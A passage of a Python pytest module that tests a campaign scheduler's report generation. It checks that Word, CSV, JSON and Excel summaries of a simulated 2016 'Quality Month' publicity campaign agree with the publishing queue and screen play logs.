"""`qm simulate` then `qm report` on its database: the work summary's figures against the queue and proof of play."""

from __future__ import annotations

import csv
import datetime as dt
import fcntl
import hashlib
import io
import json
import os
import re
import shutil
import sqlite3
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from zoneinfo import ZoneInfo

import docx
import openpyxl
import pytest

from scheduler.publishing.states import STATES, label
from scheduler.report.charts import ChartError, chart_font
from scheduler.report.document import ANNEX_HEAD
from scheduler.views.columns import width

from .conftest import DEFAULT, HEIHE, ROOT, run_qm

LABELS = {"wechat": "微信公众号", "weibo": "微博", "screen:center": "市中心户外大屏"}


@pytest.fixture(scope="session")
def simulated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the 2016 example, simulated once for the whole run; returns the config path of this test
    worker's own copy of it.

    The tests spread over the workers: each has its own copy to write reports and kept fonts into, copied
    from the one simulation, which the first worker to get here runs while the others wait on its lock
    (the workers' temporary folders share a parent). Session scope, because a worker may run other
    modules' tests between these."""
    shared = tmp_path_factory.getbasetemp().parent if os.environ.get("PYTEST_XDIST_WORKER") else tmp_path_factory.getbasetemp()
    first = shared / "heihe-simulated"
    with (shared / "heihe-simulated.lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if not (first / "simulate.txt").exists():
            _simulate(first)
    tmp = tmp_path_factory.mktemp("heihe")
    shutil.copytree(first, tmp, dirs_exist_ok=True)
    return tmp / "config.yaml"


def _simulate(folder: Path) -> None:
    shutil.rmtree(folder, ignore_errors=True)  # left half-made by a worker that failed here
    for name in ("content", "templates"):
        shutil.copytree(ROOT / name, folder / name)
    text = HEIHE.read_text(encoding="utf-8").replace("../../content", "content").replace("../../templates", "templates")
    config = folder / "config.yaml"
    config.write_text(text, encoding="utf-8")
    done = run_qm("simulate", "-c", config, "--faults", "0.05", "--restarts", "1")
    assert done.returncode == 0, done.stderr
    assert " report --db " in done.stdout
    (folder / "simulate.txt").write_text(done.stdout, encoding="utf-8")  # what qm simulate said; written last


def db_of(config: Path) -> Path:
    return config.parent / ".qm" / "simulate" / "qm.sqlite3"


def published_by_channel(config: Path) -> Counter[str]:
    with sqlite3.connect(db_of(config)) as conn:
        return Counter(dict(conn.execute("SELECT channel, count(*) FROM posts WHERE state = 'published' GROUP BY channel").fetchall()))


def proof_of_play(config: Path) -> list[dict[str, object]]:
    path = config.parent / ".qm" / "simulate" / "proof-of-play" / "center.jsonl"
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def table_after(document: docx.document.Document, head: list[str]) -> list[list[str]]:
    table = next(t for t in document.tables if [c.text for c in t.rows[0].cells] == head)
    return [[c.text for c in row.cells] for row in table.rows[1:]]


def test_the_work_summary_counts_what_the_queue_and_proof_of_play_hold(simulated: Path, tmp_path: Path) -> None:
    out = tmp_path / "工作总结.docx"
    done = run_qm("report", "-c", simulated, "--db", db_of(simulated), "-o", out)
    assert done.returncode == 0, done.stderr
    document = docx.Document(str(out))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "2016年全市“质量月”活动工作总结" in text
    for heading in (
        "一、基本情况",
        "二、各项活动开展情况",
        "三、启动暨集中宣传活动",
        "四、宣传数据",
        "五、存在的问题及处理情况",
        "附件：已发布内容明细",
    ):
        assert heading in text
    counts = published_by_channel(simulated)
    channel_rows = dict(table_after(document, ["渠道", "已发布（条）"]))  # type: ignore[arg-type]
    assert channel_rows == {**{LABELS[c]: str(n) for c, n in counts.items()}, "合计": str(sum(counts.values()))}
    plays = proof_of_play(simulated)
    days = {str(p["shown_at"])[:10] for p in plays}
    hours = sum(float(p["duration"]) for p in plays) / 3600  # type: ignore[arg-type]
    assert table_after(document, ["电子屏", "播放天数", "播放次数", "播放时长（小时）"]) == [
        ["市中心户外大屏", str(len(days)), str(len(plays)), f"{hours:.1f}"]
    ]
    annex = table_after(document, ANNEX_HEAD)
    assert len(annex) == sum(counts.values())
    assert Counter(row[2] for row in annex) == Counter({LABELS[c]: n for c, n in counts.items()})
    launch = [row for row in annex if row[0].startswith("09-08")]
    assert f"当天各渠道发布 {len(launch)} 条" in text
    paragraphs = [p.text for p in document.paragraphs]
    part = paragraphs[paragraphs.index("三、启动暨集中宣传活动") : paragraphs.index("四、宣传数据")]
    assert part[-1] == "启动活动的举行情况请据实补充。" and len(part) == len(launch) + 3, part  # after the list of posts
    screen_posts = [row for row in annex if row[2] == "市中心户外大屏"]
    featured = Counter(str(p["post"]) for p in plays if p["post"])
    assert sum(int(row[5].removeprefix("播放次数 ")) for row in screen_posts) == sum(featured.values())
    assert len(document.inline_shapes) == 3  # posts per day, top reads, plays per screen


def test_the_figures_alone_in_json_csv_and_xlsx(simulated: Path, tmp_path: Path) -> None:
    counts = published_by_channel(simulated)
    for fmt in ("json", "csv", "xlsx"):
        done = run_qm("report", "-c", simulated, "--db", db_of(simulated), "--format", fmt, "-o", tmp_path / f"figures.{fmt}")
        assert done.returncode == 0, done.stderr
    data = json.loads((tmp_path / "figures.json").read_text(encoding="utf-8"))
    assert data["published"] == sum(counts.values())
    assert data["published_by_channel"] == {LABELS[c]: n for c, n in counts.items()}
    assert sum(d["plays"] for d in data["screens"]) == len(proof_of_play(simulated))
    raw = (tmp_path / "figures.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:6] == ["数据来源", "编号", "时间", "发出时间", "平台发布时间", "渠道"] and len(rows) - 1 == len(data["posts"])
    assert {r[0] for r in rows[1:]} == {"模拟数据，不是真实发布"}  # every row: it survives sorting and filtering
    book = openpyxl.load_workbook(tmp_path / "figures.xlsx")
    assert book.sheetnames == ["概况", "发布明细", "电子屏", "统计缺口", "单位报送"]
    assert book["发布明细"].max_row - 1 == len(data["posts"])
    late = next(r for r in book["概况"].iter_rows(values_only=True) if str(r[0]).startswith("迟发"))
    assert late[1] == data["late"]["count"] and "交给平台" in str(late[2])  # by which clock, as the report's text says
    labels = [r[0] for r in book["概况"].iter_rows(values_only=True)]
    assert len(labels) == len(set(labels)) and "已发布（条）" not in labels  # said once, as one of the queue's states
    assert next(r[1] for r in book["概况"].iter_rows(values_only=True) if r[0] == "其中已发布（条）") == data["published"]


def test_the_spreadsheets_columns_are_wide_enough_for_what_they_hold(simulated: Path, tmp_path: Path) -> None:
    """Excel cuts a cell off at its column's width: each column is as wide as its widest cell (a Chinese
    character counts two), a long note wraps in a column of at most 62 rather than running a screen wide."""
    sheet = tmp_path / "f.xlsx"
    assert run_qm("report", "-c", simulated, "--db", db_of(simulated), "--format", "xlsx", "-o", sheet).returncode == 0
    for ws in openpyxl.load_workbook(sheet).worksheets:
        for column in ws.iter_cols():
            cells = [c for c in column if c.value is not None]
            widest = max((width(str(c.value)) for c in cells), default=0)
            set_to = ws.column_dimensions[column[0].column_letter].width  # type: ignore[union-attr]
            assert min(widest, 60) <= set_to <= 62, (ws.title, column[0].column_letter, widest, set_to)
            assert all(c.alignment.wrap_text for c in cells if width(str(c.value)) > set_to), ws.title
    titles = openpyxl.load_workbook(sheet)["发布明细"]
    assert titles.column_dimensions["G"].width >= max(width(str(c.value)) for c in titles["G"])  # 标题, whole


def test_failures_and_pauses_are_reported_as_problems(simulated: Path, tmp_path: Path) -> None:
    db = tmp_path / "qm.sqlite3"
    shutil.copy(db_of(simulated), db)
    with sqlite3.connect(db) as conn:
        post = conn.execute("SELECT id FROM posts WHERE channel = 'weibo' ORDER BY at LIMIT 1").fetchone()[0]
        conn.execute("UPDATE posts SET state = 'failed', last_error = '微博接口返回错误 20021（正文含有违规内容）' WHERE id = ?", (post,))
        conn.execute("INSERT INTO pause_log (channel, action, reason, who, at) VALUES ('*', 'pause', '全国哀悼日', '王科长', 1473292800)")
    out = tmp_path / "r.docx"
    assert run_qm("report", "-c", simulated, "--db", db, "-o", out).returncode == 0
    document = docx.Document(str(out))
    problems = table_after(document, ["时间", "渠道", "标题", "状态", "原因"])
    assert [(r[1], r[3], r[4]) for r in problems] == [("微博", "失败", "微博接口返回错误 20021（正文含有违规内容）")]
    text = "\n".join(p.text for p in document.paragraphs)
    assert "2016-09-08 08:00 暂停全部渠道的发布，原因：全国哀悼日（王科长）。" in text


def test_a_report_written_before_is_never_overwritten_unless_forced(simulated: Path, tmp_path: Path) -> None:
    edited = tmp_path / "工作总结.docx"
    edited.write_bytes(b"edited in WPS")
    done = run_qm("report", "-c", simulated, "--db", db_of(simulated), cwd=tmp_path)
    assert done.returncode == 0 and "工作总结（2）.docx" in done.stderr, done.stderr
    assert edited.read_bytes() == b"edited in WPS" and docx.Document(str(tmp_path / "工作总结（2）.docx")).paragraphs
    draft = tmp_path / "上半月.docx"
    draft.write_bytes(b"the first half, edited")
    for fmt, named in (("docx", edited), ("docx", draft), ("csv", tmp_path / "工作总结（2）.docx")):
        kept = run_qm("report", "-c", simulated, "--db", db_of(simulated), "--format", fmt, "-o", named, cwd=tmp_path)
        assert kept.returncode == 2 and f"{named} 已存在，没有覆盖" in kept.stderr and "--force" in kept.stderr, kept.stderr
    assert edited.read_bytes() == b"edited in WPS" and draft.read_bytes() == b"the first half, edited"
    forced = run_qm("report", "-c", simulated, "--db", db_of(simulated), "-o", draft, "--force", cwd=tmp_path)
    assert forced.returncode == 0 and docx.Document(str(draft)).paragraphs  # asked for by name, with --force: replaced
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary file left behind
    folder = tmp_path / "报告"
    folder.mkdir()
    into = run_qm("report", "-c", simulated, "--db", db_of(simulated), "-o", folder, cwd=tmp_path)
    assert into.returncode == 0 and (folder / "工作总结.docx").is_file(), into.stderr  # a folder: the default name in it


def test_bad_arguments_are_explained(simulated: Path, tmp_path: Path) -> None:
    missing = run_qm("report", "-c", simulated, "--db", tmp_path / "nope.sqlite3")
    assert missing.returncode == 2 and "找不到数据库文件" in missing.stderr and "Traceback" not in missing.stderr
    wrong = run_qm("report", "-c", simulated, "--db", db_of(simulated), "-o", tmp_path / "总结.txt")
    assert wrong.returncode == 2 and "扩展名" in wrong.stderr
    assert not (tmp_path / "总结.txt").exists()
    backwards = run_qm("report", "-c", simulated, "--db", db_of(simulated), "--from", "2016-09-20", "--to", "2016-09-10")
    assert backwards.returncode == 2 and "--to 2016-09-10 早于 --from 2016-09-20" in backwards.stderr


def test_a_day_outside_the_campaign_is_refused_saying_the_report_counts_campaign_days(simulated: Path, tmp_path: Path) -> None:
    """The summary would say the campaign ran on days it did not: refused, saying why, nothing written (made
    after the campaign, as this one is, it is accepted)."""
    for option, day in (("--from", "2016-08-25"), ("--to", "2016-12-31")):
        out = tmp_path / f"{day}.docx"
        report = run_qm("report", "-c", simulated, "--db", db_of(simulated), option, day, "-o", out)
        said = f"{option} {day} 不在活动期 2016-09-01 至 2016-09-30 之内（工作总结统计活动期内各天的发布；活动结束后也可以生成"
        assert report.returncode == 2 and said in report.stderr, report.stderr
        assert "Traceback" not in report.stderr and not out.exists()


def test_a_label_the_font_cannot_draw_is_refused(tmp_path: Path) -> None:
    assert chart_font("各渠道发布条数", tmp_path).is_file()
    with pytest.raises(ChartError, match="不在字体"):
        chart_font("发布\U0001f600", tmp_path)


def test_a_report_keeps_its_chart_font_in_the_state_folder_and_cuts_a_damaged_one_again(simulated: Path, tmp_path: Path) -> None:
    kept = simulated.parent / ".qm" / "chart-fonts"
    report = ("report", "-c", simulated, "--db", db_of(simulated), "-o")
    assert run_qm(*report, tmp_path / "1.docx").returncode == 0
    before = {p: p.stat().st_ino for p in kept.glob("*.otf")}
    assert run_qm(*report, tmp_path / "2.docx").returncode == 0
    assert {p: p.stat().st_ino for p in kept.glob("*.otf")} == before  # taken again, not cut and written again
    taken = max(before, key=lambda p: p.stat().st_mtime_ns)
    taken.write_bytes(taken.read_bytes()[:1000])
    done = run_qm(*report, tmp_path / "3.docx")
    assert done.returncode == 0, done.stderr
    assert len(docx.Document(str(tmp_path / "3.docx")).inline_shapes) == 3
    [again] = [p for p in kept.glob("*.otf") if p.name.partition("-")[0] == taken.name.partition("-")[0]]
    assert again.stat().st_size > 1000 and again.stem.endswith(hashlib.sha256(again.read_bytes()).hexdigest()[:32])


def ocr(png: Path) -> str:
    """The text Tesseract's Simplified Chinese model reads in an image, without spaces."""
    import subprocess

    done = subprocess.run(["tesseract", str(png), "-", "-l", "chi_sim"], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    return "".join(done.stdout.split())


def test_the_charts_chinese_labels_read_back(simulated: Path, tmp_path: Path) -> None:
    if shutil.which("tesseract") is None or not list(Path("/usr/share/tesseract-ocr").glob("*/tessdata/chi_sim.traineddata")):
        if os.environ.get("CI"):
            pytest.fail("CI must have Tesseract with chi_sim (apt-get install tesseract-ocr tesseract-ocr-chi-sim; .ci/run does)")
        pytest.skip("Tesseract with Simplified Chinese is not installed")
    from scheduler.inputs.config import load_campaign
    from scheduler.inputs.content import load_library
    from scheduler.publishing.db import open_db
    from scheduler.report.charts import draw_all
    from scheduler.report.figures import gather

    campaign = load_campaign(simulated)
    library = load_library(campaign.paths.content, campaign.text_values)
    engine = open_db(f"sqlite:///{db_of(simulated)}")
    figures = gather(campaign, engine, campaign.start, campaign.end, library.by_id)
    engine.dispose()
    charts = {c.key: ocr(c.path) for c in draw_all(figures, tmp_path)}
    assert "每日发布条数" in charts["posts-per-day"] and "市中心户外大屏" in charts["posts-per-day"]
    assert "各电子屏播放次数" in charts["screen-plays"] and "市中心户外大屏" in charts["screen-plays"]
    assert "阅读人数最多的10篇公众号文章" in charts["top-reads"]
    top = [p.title for p in figures.top_articles()]
    words = re.sub(r"\W", "", charts["top-reads"])  # OCR reads punctuation loosely (：as ;), so compare the words
    read = [t for t in top if re.sub(r"\W", "", t) in words]
    assert len(read) >= len(top) - 2, (top, charts["top-reads"])  # OCR may trip on a ® or a quotation mark, not on the Chinese


def test_a_report_that_could_only_be_empty_is_refused_with_the_days_the_database_holds(simulated: Path, tmp_path: Path) -> None:
    out = tmp_path / "工作总结.docx"
    forgot_config = run_qm("report", "-c", DEFAULT, "--db", db_of(simulated), "-o", out)  # the 2027 campaign on the 2016 database
    assert forgot_config.returncode == 2 and "Traceback" not in forgot_config.stderr
    assert "中没有 2027-09-01 至 2027-09-30 的内容（它的内容在 2016-09-01 至 2016-09-30）" in forgot_config.stderr
    assert "用 -c 指定这个数据库所属活动的配置文件" in forgot_config.stderr
    wrong_year = run_qm("report", "-c", simulated, "--db", db_of(simulated), "--from", "2015-09-01", "--to", "2015-09-30", "-o", out)
    assert wrong_year.returncode == 2 and "--from 2015-09-01 不在活动期 2016-09-01 至 2016-09-30 之内" in wrong_year.stderr
    assert not out.exists()


def test_a_report_on_part_of_the_campaign_says_the_launch_is_outside_it_instead_of_counting_nothing(
    simulated: Path, tmp_path: Path
) -> None:
    out = tmp_path / "下半月.docx"
    done = run_qm("report", "-c", simulated, "--db", db_of(simulated), "--from", "2016-09-16", "-o", out)
    assert done.returncode == 0, done.stderr
    text = "\n".join(p.text for p in docx.Document(str(out)).paragraphs)
    assert "启动暨集中宣传活动计划于9月8日（星期四）09:00在市中心广场举行（启动日不在本报告的时间范围内）。" in text
    assert "当天各渠道发布" not in text
    assert "2016年9月16日至2016年9月30日" in text and "期间各渠道共发布宣传内容" in text and "qm 排期" not in text


def test_qm_simulate_counts_late_posts_by_the_reports_rule_and_the_report_on_its_database_agrees(simulated: Path, tmp_path: Path) -> None:
    said = (simulated.parent / "simulate.txt").read_text(encoding="utf-8")
    found = re.search(r"迟发（平台收到的时间晚于排期时间 1 分钟以上，与工作总结的算法相同）(\d+) 条", said)
    assert found is not None, said
    assert "可能与上面不同" not in said
    figures = tmp_path / "figures.json"
    assert run_qm("report", "-c", simulated, "--db", db_of(simulated), "--format", "json", "-o", figures).returncode == 0
    assert json.loads(figures.read_text(encoding="utf-8"))["late"]["count"] == int(found.group(1))


def test_posts_that_went_out_late_are_counted_with_their_delay_per_channel(simulated: Path, tmp_path: Path) -> None:
    """Late = the time qm handed the post to its platform (sent_at) more than a minute after the slot (at). A
    post recorded by hand (qm confirm) has only the time it was recorded: it is not counted, and that is said."""
    db = tmp_path / "qm.sqlite3"
    shutil.copy(db_of(simulated), db)
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE posts SET sent_at = at + 5 WHERE state = 'published'")  # on time (within the minute)
        ids = {
            ch: [r[0] for r in conn.execute("SELECT id FROM posts WHERE channel = ? AND state = 'published' ORDER BY at", (ch,))]
            for ch in ("wechat", "weibo")
        }
        for post, seconds in (
            (ids["wechat"][0], 38 * 60 + 10),
            (ids["weibo"][0], 5 * 60),
            (ids["weibo"][1], 65 * 60),
            (ids["weibo"][2], 50),
        ):
            conn.execute("UPDATE posts SET sent_at = at + ? WHERE id = ?", (seconds, post))
        conn.execute(  # confirmed by hand three hours after its slot
            "UPDATE posts SET sent_at = at + 10800, published_at = at + 10800, receipt = json_set(receipt, '$.data.confirmed_by', '王科长') WHERE id = ?",
            (ids["weibo"][3],),
        )
        late_at, went_out = conn.execute(
            "SELECT datetime(at, 'unixepoch', '+8 hours'), datetime(sent_at, 'unixepoch', '+8 hours') FROM posts WHERE id = ?",
            (ids["weibo"][1],),
        ).fetchone()
    out = tmp_path / "r.docx"
    done = run_qm("report", "-c", simulated, "--db", db, "-o", out)
    assert done.returncode == 0, done.stderr
    document = docx.Document(str(out))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "已发布的内容中迟发 3 条。" in text
    assert (
        "迟发：3 条内容晚于排期时间 1 分钟以上发出（微博 2 条（最长晚 1 小时 5 分钟），微信公众号 1 条（晚 38 分钟）；"
        "发出时间是 qm 把内容交给平台、平台接收的时间，公众号提交发布后平台审核所用的时间不算迟发）。"
    ) in text
    assert "人工确认发布的 1 条记录的是确认时间，未计入" in text
    assert "各条迟发的原因可按表中的编号查阅该条内容的发布记录。" in text and "qm history" not in text
    rows = table_after(document, ["编号", "排期时间", "发出时间", "渠道", "标题", "晚了"])
    assert [(r[0], r[3], r[5]) for r in rows] == [
        (ids["weibo"][1], "微博", "1 小时 5 分钟"),
        (ids["wechat"][0], "微信公众号", "38 分钟"),
        (ids["weibo"][0], "微博", "5 分钟"),
    ]  # longest first, each with the id that finds its history
    assert (rows[0][1], rows[0][2]) == (late_at[5:16], went_out[5:16])
    figures = tmp_path / "figures.json"
    assert run_qm("report", "-c", simulated, "--db", db, "--format", "json", "-o", figures).returncode == 0
    late = json.loads(figures.read_text(encoding="utf-8"))["late"]
    assert late["count"] == 3 and late["longest_seconds"] == 65 * 60 and late["confirmed_by_hand"] == 1
    assert late["by_channel"] == {
        "微博": {"count": 2, "longest_seconds": 65 * 60},
        "微信公众号": {"count": 1, "longest_seconds": 38 * 60 + 10},
    }


def test_the_post_tables_say_when_each_post_was_sent_and_published_apart_from_its_slot(simulated: Path, tmp_path: Path) -> None:
    """The spreadsheet's 发布明细 (and the csv, the json) and the document's annex: the slot, and the platform's
    publish time (here 25 minutes after a WeChat publish job was submitted on time, as its review took)."""
    db = copy_db(simulated, tmp_path)
    with sqlite3.connect(db) as conn:
        post, at = conn.execute("SELECT id, at FROM posts WHERE channel = 'wechat' AND state = 'published' ORDER BY at").fetchone()
        conn.execute("UPDATE posts SET sent_at = at + 5, published_at = at + 1500 WHERE id = ?", (post,))
    slot = dt.datetime.fromtimestamp(at, ZoneInfo("Asia/Shanghai"))
    sent, published = slot + dt.timedelta(seconds=5), slot + dt.timedelta(minutes=25)
    for fmt in ("xlsx", "json"):
        assert run_qm("report", "-c", simulated, "--db", db, "--format", fmt, "-o", tmp_path / f"f.{fmt}").returncode == 0
    rows = list(openpyxl.load_workbook(tmp_path / "f.xlsx")["发布明细"].iter_rows(values_only=True))
    row = dict(zip(rows[0], next(r for r in rows if r[0] == post), strict=True))
    assert (row["时间"], row["发出时间"], row["平台发布时间"]) == (
        f"{slot:%Y-%m-%d %H:%M}",
        f"{sent:%Y-%m-%d %H:%M:%S}",
        f"{published:%Y-%m-%d %H:%M:%S}",
    )
    overview = {r[0]: r[1] for r in openpyxl.load_workbook(tmp_path / "f.xlsx")["概况"].iter_rows(values_only=True)}
    assert "公众号“发布”的文章平台不告知发布时间，取 qm 查询到已发布的时间" in str(overview["发布明细中的时间"])
    listed = next(p for p in json.loads((tmp_path / "f.json").read_text(encoding="utf-8"))["posts"] if p["id"] == post)
    assert dt.datetime.fromisoformat(listed["published_at"]) == published
    document, text = report_text(simulated, db, tmp_path / "r.docx")
    annex = table_after(document, ANNEX_HEAD)
    assert [f"{slot:%m-%d %H:%M}", f"{published:%m-%d %H:%M}"] in [r[:2] for r in annex]
    assert "平台发布时间是平台告知的发布时间" in text


def copy_db(simulated: Path, tmp_path: Path) -> Path:
    db = tmp_path / "qm.sqlite3"
    shutil.copy(db_of(simulated), db)
    return db


def report_text(simulated: Path, db: Path, out: Path) -> tuple[docx.document.Document, str]:
    done = run_qm("report", "-c", simulated, "--db", db, "-o", out)
    assert done.returncode == 0, done.stderr
    document = docx.Document(str(out))
    return document, "\n".join(p.text for p in document.paragraphs)


def test_a_report_on_a_simulation_says_the_figures_are_simulated_and_a_real_database_does_not(simulated: Path, tmp_path: Path) -> None:
    document, text = report_text(simulated, db_of(simulated), tmp_path / "模拟.docx")
    assert document.paragraphs[0].text.startswith("【模拟数据，不是真实发布：")
    assert document.sections[0].header.paragraphs[0].text == "模拟数据，不是真实发布"
    assert "数字均取自 qm 数据库" not in text
    for fmt in ("json", "xlsx"):
        assert run_qm("report", "-c", simulated, "--db", db_of(simulated), "--format", fmt, "-o", tmp_path / f"f.{fmt}").returncode == 0
    data = json.loads((tmp_path / "f.json").read_text(encoding="utf-8"))
    assert data["simulated"] is True and data["notice"].startswith("模拟数据，不是真实发布")
    assert str(openpyxl.load_workbook(tmp_path / "f.xlsx")["概况"]["A1"].value).startswith("模拟数据，不是真实发布")
    real = copy_db(simulated, tmp_path)
    with sqlite3.connect(real) as conn:  # as if people had approved every post and no simulation had kept it
        conn.execute("DROP TABLE qm_simulation")
        conn.execute("UPDATE audit SET who = '王科长' WHERE who = '模拟审核'")
    document, text = report_text(simulated, real, tmp_path / "真实.docx")
    assert "模拟数据" not in text and not document.sections[0].header.paragraphs[0].text
    assert run_qm("report", "-c", simulated, "--db", real, "--format", "csv", "-o", tmp_path / "真实.csv").returncode == 0
    real_rows = list(csv.reader(io.StringIO((tmp_path / "真实.csv").read_text(encoding="utf-8-sig"))))
    assert real_rows[0][0] == "编号" and "模拟数据" not in (tmp_path / "真实.csv").read_text(encoding="utf-8-sig")
    assert "数字均取自 qm 数据库" in text


def test_the_totals_count_the_queue_by_state_like_qm_queue_and_the_planned_days_it_never_held(simulated: Path, tmp_path: Path) -> None:
    """A campaign whose queue began on 9月4日 (qm first ran then), with a post cancelled: the header counts
    what the queue holds, cancelled included, and says how many planned posts before then have no record."""
    db = copy_db(simulated, tmp_path)
    with sqlite3.connect(db) as conn:
        before = conn.execute("DELETE FROM posts WHERE at < strftime('%s', '2016-09-04 00:00:00', '-8 hours')").rowcount
        conn.execute(
            "UPDATE posts SET state = 'cancelled' WHERE id = (SELECT id FROM posts WHERE state = 'published' ORDER BY at DESC LIMIT 1)"
        )
        states = Counter(dict(conn.execute("SELECT state, count(*) FROM posts GROUP BY state").fetchall()))
    _document, text = report_text(simulated, db, tmp_path / "r.docx")
    counted = "，".join(f"{label(s)} {states[s]} 条" for s in STATES if states[s])
    queued = sum(states.values())
    assert before > 0 and states["cancelled"] >= 1
    assert f"排期内容共 {queued + before} 条。其中 {queued} 条在发布队列中：{counted}；" in text
    assert f"另有 {before} 条安排在2016年9月1日至2016年9月3日，没有进入发布队列" in text
    figures = tmp_path / "f.json"
    assert run_qm("report", "-c", simulated, "--db", db, "--format", "json", "-o", figures).returncode == 0
    data = json.loads(figures.read_text(encoding="utf-8"))
    assert (data["queued"], data["planned_not_queued"], data["queued_by_state"]) == (queued, before, dict(states))


def test_the_launch_day_list_names_each_post_as_the_consoles_pages_do(simulated: Path) -> None:
    """A screen post by the headline its slide shows, not its item's title: the report and the console agree."""
    from scheduler.inputs.config import load_campaign
    from scheduler.inputs.content import load_library
    from scheduler.pages.posts import entries
    from scheduler.planning.planner import make_plan
    from scheduler.publishing.db import open_db
    from scheduler.publishing.queue import Queue
    from scheduler.report.figures import gather
    from scheduler.report.launch_day import launch_text

    campaign = load_campaign(simulated)
    library = load_library(campaign.paths.content, campaign.text_values)
    engine = open_db(f"sqlite:///{db_of(simulated)}")
    figures = gather(campaign, engine, campaign.start, campaign.end, library.by_id)
    day = campaign.key_dates.launch
    console = entries(campaign, make_plan(campaign, library), library, Queue(engine).find(), day, day)
    engine.dispose()
    told = launch_text(
        campaign, figures.posts, campaign.start, campaign.end, dt.datetime.combine(campaign.end, dt.time(), campaign.timezone)
    )
    assert told.posts and told.lines() == [
        f"{e.at:%H:%M} {LABELS[e.channel]}：{e.title}" for e in console if e.id in {p.id for p in told.posts}
    ]
    slides = {line: library.by_id[p.item] for p, line in zip(told.posts, told.lines(), strict=True) if p.channel.startswith("screen")}
    assert all(line.endswith(f"：{item.headline}") for line, item in slides.items()), slides
    assert any(item.headline != item.title for item in slides.values())  # the example has such a slide that day


def test_a_deleted_items_title_is_the_one_its_posts_went_out_with(simulated: Path) -> None:
    from scheduler.inputs.config import load_campaign
    from scheduler.inputs.content import load_library
    from scheduler.publishing.db import open_db
    from scheduler.report.figures import gather

    campaign = load_campaign(simulated)
    library = load_library(campaign.paths.content, campaign.text_values).by_id
    titles = {item_id: item.title for item_id, item in library.items()}
    with sqlite3.connect(db_of(simulated)) as conn:
        item, payload = conn.execute(
            "SELECT item, payload FROM posts WHERE channel = 'wechat' AND state = 'published' ORDER BY at"
        ).fetchone()
        weibo_only = next(
            i
            for (i,) in conn.execute("SELECT item FROM posts WHERE channel = 'weibo' AND state = 'published' ORDER BY at")
            if not conn.execute("SELECT 1 FROM posts WHERE item = ? AND channel = 'wechat'", (i,)).fetchone()
        )
    engine = open_db(f"sqlite:///{db_of(simulated)}")
    gone = {k: v for k, v in library.items() if k not in (item, weibo_only)}  # both content files deleted
    figures = gather(campaign, engine, campaign.start, campaign.end, gone)
    engine.dispose()
    shown = {p.item: p.title for p in figures.posts}
    assert shown[item] == json.loads(payload)["title"] == titles[item]
    assert shown[weibo_only] == titles[weibo_only]  # from the Weibo's 【title】


def test_the_units_part_counts_the_configs_submitted_files_as_qm_units_does_whatever_the_database(simulated: Path, tmp_path: Path) -> None:
    """The files sit in the config's submissions folder; the report reads its posts from the simulation's
    database (--db), which never saw them: part 六 still says what `qm units` says, and that it is not simulated."""
    config = simulated.with_name(f"units-{tmp_path.name}.yaml")  # the same campaign with its own state folder
    config.write_text(simulated.read_text(encoding="utf-8").replace("state: .qm", f"state: .qm-{tmp_path.name}"), encoding="utf-8")
    folder = simulated.parent / f".qm-{tmp_path.name}" / "submissions"
    for unit, kind, arrived in (("爱辉区", "方案", 9), ("北安市", "方案", 13), ("嫩江县", "方案", 10), ("爱辉区", "总结", 8)):
        path = folder / unit / kind / f"{unit}{kind}.txt"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"{unit}质量月活动{kind}", encoding="utf-8")
        when = dt.datetime(2016, 9 if kind == "方案" else 10, arrived, 10, tzinfo=dt.timezone(dt.timedelta(hours=8))).timestamp()
        os.utime(path, (when, when))
    listed = run_qm("units", "-c", config, "--json")
    assert listed.returncode == 0, listed.stderr
    told = {(u["unit"], u["kind"]): (u["state"], u["late_days"]) for u in json.loads(listed.stdout)}
    assert told[("北安市", "plan")] == ("late", 3) and told[("嫩江县", "plan")] == ("ontime", 0)
    _document, text = report_text(config, db_of(simulated), tmp_path / "r.docx")
    assert "六、各单位报送情况" in text and "不是模拟数据" in text
    assert (
        "活动方案（2016年9月10日截止）：共 6 个单位，按时报送 2 个（爱辉区、嫩江县），迟交 1 个（北安市迟 3 天），未报送 3 个（五大连池市、逊克县、孙吴县）。"
        in text
    )
    assert "工作总结（2016年10月10日截止）：共 6 个单位，按时报送 1 个（爱辉区），未报送 5 个（" in text
    figures = tmp_path / "f.json"
    assert run_qm("report", "-c", config, "--db", db_of(simulated), "--format", "json", "-o", figures).returncode == 0
    units = json.loads(figures.read_text(encoding="utf-8"))["units"]
    assert {(u["unit"], u["kind"]): (u["state"], u["late_days"]) for u in units} == told


def test_a_day_the_screens_play_records_are_not_final_is_said_with_the_screens_name(simulated: Path, tmp_path: Path) -> None:
    db = copy_db(simulated, tmp_path)
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE stat_days SET state = 'delay', note = '' WHERE source = 'screen:center' AND day = '2016-09-29'")
    _document, text = report_text(simulated, db, tmp_path / "r.docx")
    assert "市中心户外大屏的播放记录有 1 天尚未最终确定（2016-09-29）：播放电脑断网时会事后补报" in text
    assert "center" not in text and "无说明" not in text
    sheet = tmp_path / "f.xlsx"
    assert run_qm("report", "-c", simulated, "--db", db, "--format", "xlsx", "-o", sheet).returncode == 0
    rows = [[c.value for c in r] for r in openpyxl.load_workbook(sheet)["统计缺口"].iter_rows(min_row=2)]
    assert ["市中心户外大屏（播放记录）", "2016-09-29", "尚未最终确定", None] in rows  # an empty note is an empty cell


def test_a_report_before_the_campaign_tells_it_ahead_and_says_once_per_part_that_nothing_went_out_yet(
    project: Callable[..., Path], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """The bundled 2027 campaign, its posts in the queue, nothing published: made in August it tells what
    will be done; made on 9月5日 what is under way; no part counts zeros or shows an empty table."""
    from scheduler.cli.context import Context
    from scheduler.cli.main import main
    from scheduler.inputs.config import load_campaign
    from scheduler.inputs.content import load_library
    from scheduler.planning.planner import make_plan
    from scheduler.publishing.db import open_db
